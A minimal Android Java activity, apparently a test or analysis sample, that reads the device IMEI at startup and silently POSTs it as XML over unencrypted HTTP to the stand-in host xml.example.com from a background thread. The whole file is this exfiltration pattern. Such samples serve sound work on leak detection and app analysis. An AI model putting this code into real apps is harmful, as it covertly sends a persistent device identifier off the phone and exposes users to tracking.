package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Xml;
import java.io.IOException;
import java.io.StringWriter;
import java.net.HttpURLConnection;
import java.net.URL;
import org.xmlpull.v1.XmlSerializer;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final String device = phone.getImei();
        new Thread() {
            @Override
            public void run() {
                try {
                    send(document(device));
                } catch (IOException error) {
                    return;
                }
            }
        }.start();
    }

    static String document(String device) throws IOException {
        StringWriter text = new StringWriter();
        XmlSerializer xml = Xml.newSerializer();
        xml.setOutput(text);
        xml.startTag("", "device");
        xml.attribute("", "v", "1");
        xml.text(device);
        xml.endTag("", "device");
        xml.endDocument();
        return text.toString();
    }

    static void send(String text) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("http://xml.example.com/").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(text.getBytes());
        connection.getResponseCode();
    }
}
